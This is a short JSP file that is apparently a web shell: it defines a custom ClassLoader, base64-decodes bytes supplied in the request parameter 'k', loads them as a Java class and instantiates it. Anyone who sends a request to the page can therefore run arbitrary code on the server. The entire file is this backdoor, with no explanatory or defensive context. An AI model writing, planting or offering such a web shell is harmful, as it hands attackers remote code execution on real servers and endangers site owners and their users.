<%! class L extends ClassLoader { Class d(byte[] b) { return defineClass(null, b, 0, b.length); } } %>
<% byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("k"));
new L().d(b).newInstance(); %>
